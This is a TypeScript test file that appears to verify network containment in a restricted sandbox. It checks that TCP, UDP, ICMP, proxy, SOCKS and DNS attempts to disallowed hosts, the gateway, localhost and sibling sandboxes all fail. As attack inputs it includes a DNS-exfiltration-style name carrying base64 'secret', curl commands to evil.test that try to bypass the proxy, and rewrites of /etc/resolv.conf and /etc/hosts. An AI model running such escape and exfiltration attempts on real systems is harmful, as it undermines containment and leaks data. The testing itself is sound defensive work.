import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { expect, it } from 'vitest';
import type { Attempt, AttemptResult } from './attempts.ts';
import { describeRestricted, proxyVariables } from './restricted.ts';
import { baitPorts, gatewayAddress, worldAddress } from './world.ts';

const bait = baitPorts[0];
const failed: AttemptResult = { error: expect.any(String), text: expect.any(String) };
const far = [worldAddress, '198.41.0.4', '10.66.0.10', '169.254.169.254', '2001:db8::5', 'fd66::a', 'fe80::1'];

await describeRestricted({ allow: ['api.test', 'api.test:5432'] }, ({ kind, world, restricted }) => {
  it('no packet leaves a restricted sandbox for an address, by TCP, UDP or ICMP', async () => {
    // The containment proof of a new sandbox is over then.
    await restricted().run('true', 'attacker');
    const before = await world().packets();
    const attempts = Object.fromEntries<Attempt>([
      ...far.map((host) => [`tcp ${host}`, { try: 'tcp', host, port: 443 }] as const),
      ...far.map((host) => [`udp ${host}`, { try: 'udp', host, port: 53 }] as const),
      ...[true, false].map((raw) => [`icmp ${raw}`, { try: 'icmp', host: worldAddress, raw }] as const),
    ]);
    const results = await restricted().attack(attempts);
    expect(results).toEqual(Object.fromEntries(Object.keys(attempts).map((name) => [name, failed])));
    const curl = await restricted().run(`curl -sS --noproxy '*' https://${worldAddress}/`, 'attacker');
    expect(curl.code).not.toBe(0);
    expect(await world().packets()).toBe(before);
  });

  it('no program in a restricted sandbox reaches the gateway, its machine or an abstract socket of either', async () => {
    const here = await BaitHere.open();
    await world().baitArrivals();
    const ownAddresses = Object.values(networkInterfaces()).flatMap((list) => (list ?? []).map(({ address }) => address));
    const direct = ['127.0.0.1', '0.0.0.0', '::1', gatewayAddress, '10.66.0.1', ...ownAddresses];
    const attempts = Object.fromEntries<Attempt>([
      ...direct.flatMap((host) => [
        [`tcp ${host}`, { try: 'tcp', host, port: bait }] as const,
        [`tcp here ${host}`, { try: 'tcp', host, port: here.port }] as const,
      ]),
      ['abstract of the gateway', { try: 'abstract', name: world().abstractSocket }],
      ['abstract of the machine', { try: 'abstract', name: here.abstractSocket }],
    ]);
    expect(await restricted().attack(attempts)).toEqual(Object.fromEntries(Object.keys(attempts).map((name) => [name, failed])));
    const targets = [...direct, 'localhost', 'sandbox', 'ip6-localhost'].map((host) => (host.includes(':') ? `[${host}]` : host));
    const proxied = await restricted().attack(
      Object.fromEntries(
        targets.flatMap((host) =>
          [bait, here.port].map((port) => [`${host}:${port}`, { try: 'connect', target: `${host}:${port}` }] as const),
        ),
      ),
    );
    for (const [target, { status }] of Object.entries(proxied)) expect([400, 403], target).toContain(status);
    await restricted().attack({
      datagram: { try: 'udp', host: '127.0.0.1', port: bait },
      own: { try: 'udp', host: gatewayAddress, port: bait },
    });
    expect(await world().baitArrivals()).toEqual([]);
    expect(here.arrived).toBe(0);
    await here.close();
  });

  it('no restricted sandbox reaches another one, by TCP or by an abstract socket', async () => {
    const name = `hermetic-sibling-${randomBytes(6).toString('hex')}`;
    const listen = [
      'import socket, sys',
      's = socket.create_server(("0.0.0.0", 9000)); a = socket.socket(socket.AF_UNIX); a.bind("\\0" + sys.argv[1]); a.listen()',
      'print("listening", flush=True); sys.stdin.read(); s.setblocking(False); a.setblocking(False)',
      'for one in (s, a):',
      '  try: one.accept(); print("arrived")',
      '  except BlockingIOError: print("none")',
    ].join('\n');
    const sibling = restricted().start(`python3 -c '${listen}' ${name}`, 'sibling');
    await sibling.printed('listening');
    const results = await restricted().attack({
      tcp: { try: 'tcp', host: '127.0.0.1', port: 9000 },
      abstract: { try: 'abstract', name },
      proxied: { try: 'connect', target: '127.0.0.1:9000' },
    });
    expect(results).toEqual({ tcp: failed, abstract: failed, proxied: expect.objectContaining({ status: 403 }) });
    expect(await sibling.end()).toBe('listening\nnone\nnone\n');
  });

  it('two commands of one session use its network at the same time', async () => {
    const first = restricted().start('echo ready; cat; curl -sS https://api.test/', 'attacker');
    await first.printed('ready');
    const second = await restricted().run('curl -sS https://api.test/', 'attacker');
    expect(second.stdout, second.stderr).toBe('hello from api.test\n');
    expect(await first.end()).toBe('ready\nhello from api.test\n');
  });

  it('a command keeps its network, after a moment, when the other command of its session ends', async () => {
    const first = restricted().start('echo ready; cat', 'attacker');
    await first.printed('ready');
    const second = restricted().start('echo ready; cat; until curl -sS https://api.test/ 2>/dev/null; do sleep 0.2; done', 'attacker');
    await second.printed('ready');
    await first.end();
    expect(await second.end()).toBe('ready\nhello from api.test\n');
  });

  it('no name that is not allowed is looked up, in whichever way a program names it', async () => {
    await world().arrivals();
    const name = 'c2VjcmV0.data.evil.test';
    const long = `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.evil.test`;
    const results = await restricted().attack({
      connect: { try: 'connect', target: `${name}:443` },
      longConnect: { try: 'connect', target: `${long}:443` },
      socks: { try: 'socks', host: name, port: 443 },
      get: { try: 'raw', send: `GET http://${name}/ HTTP/1.1\r\nHost: ${name}\r\nConnection: close\r\n\r\n` },
      direct: { try: 'tcp', host: name, port: 443, send: 'data' },
      ...Object.fromEntries([1, 5, 12, 15, 16, 28, 33, 255].map((kind) => [`query ${kind}`, { try: 'query', name, kind } as const])),
      longQuery: { try: 'query', name: long },
    });
    expect([results.connect.status, results.longConnect.status, results.get.status]).toEqual([403, 403, 403]);
    expect(results.socks.reply).not.toBe(0);
    expect(results.direct).toMatchObject({ error: expect.any(String) });
    const outside = ['8.8.8.8', '203.0.113.53', gatewayAddress];
    const asked = await restricted().attack(Object.fromEntries(outside.map((server) => [server, { try: 'query', name, server } as const])));
    expect(asked).toEqual(Object.fromEntries(outside.map((server) => [server, failed])));
    expect(await world().arrivals()).toEqual([]);
  });

  it('the proxy connects to no proxy of its own and opens no port for others', async () => {
    await world().arrivals();
    const results = await restricted().attack({
      itself: { try: 'connect', target: '127.0.0.1:3128' },
      itsName: { try: 'connect', target: 'localhost:3128' },
      resolver: { try: 'connect', target: '127.0.0.1:53' },
      named: { try: 'connect', target: '127.64.0.1:443' },
      bind: { try: 'socks', host: 'api.test', port: 443, command: 2 },
      udp: { try: 'socks', host: 'api.test', port: 443, command: 3 },
      loop: { try: 'socks', host: '127.0.0.1', port: 3128, kind: 1 },
    });
    const { bind, udp, loop, ...connects } = results;
    for (const [title, { status }] of Object.entries(connects)) expect(status, title).toBe(403);
    for (const { reply } of [bind, udp, loop]) expect(reply).toBeGreaterThan(0);
    expect(await world().arrivals()).toEqual([]);
  });

  it('hundreds of idle connections and thousands of names leave the network of the sandbox usable', async () => {
    await world().arrivals();
    const results = await restricted().attack({
      crowd: { try: 'crowd', count: 300, most: 256 },
      names: { try: 'names', count: 10_000, below: 'many.test' },
    });
    expect(results.crowd.open).toBeLessThanOrEqual(256);
    const { stdout, stderr } = await restricted().run('curl -sS https://api.test/', 'attacker');
    expect(stdout, stderr).toBe('hello from api.test\n');
    const questions = (await world().arrivals()).flatMap((arrival) => (arrival.kind === 'question' ? [arrival.name] : []));
    expect(new Set(questions)).toEqual(new Set(['api.test']));
  });

  it('variables, resolver and certificates that a program changes lead nowhere else', async () => {
    await world().arrivals();
    const resolver =
      kind === 'docker' ? 'echo "nameserver 203.0.113.53" >/etc/resolv.conf; echo "203.0.113.10 evil.test" >>/etc/hosts; ' : '';
    const { code, stdout, stderr } = await restricted().run(
      `unset ${proxyVariables} SSL_CERT_FILE CURL_CA_BUNDLE; ${resolver}` +
        `curl -sSk https://evil.test/; curl -sSk -x http://203.0.113.10:3128 https://evil.test/; curl -sSk --resolve evil.test:443:203.0.113.10 https://evil.test/`,
      'changed',
    );
    expect(code, stderr).not.toBe(0);
    expect(stdout).toBe('');
    expect(await world().arrivals()).toEqual([]);
  });
});

/** Listens on every address of this machine itself, and on an abstract socket. */
class BaitHere {
  readonly abstractSocket = `hermetic-bait-${randomBytes(6).toString('hex')}`;
  arrived = 0;
  readonly #servers: Server[] = [];

  static async open(): Promise<BaitHere> {
    const here = new BaitHere();
    for (const place of [{ port: 0, host: '::' }, { path: `\0${here.abstractSocket}` }]) {
      const server = createServer((socket) => {
        here.arrived += 1;
        socket.destroy();
      });
      server.listen(place);
      await once(server, 'listening');
      here.#servers.push(server);
    }
    return here;
  }

  get port(): number {
    const address = this.#servers[0]?.address();
    return typeof address === 'object' && address ? address.port : 0;
  }

  async close(): Promise<void> {
    await Promise.all(this.#servers.map((server) => server[Symbol.asyncDispose]()));
  }
}
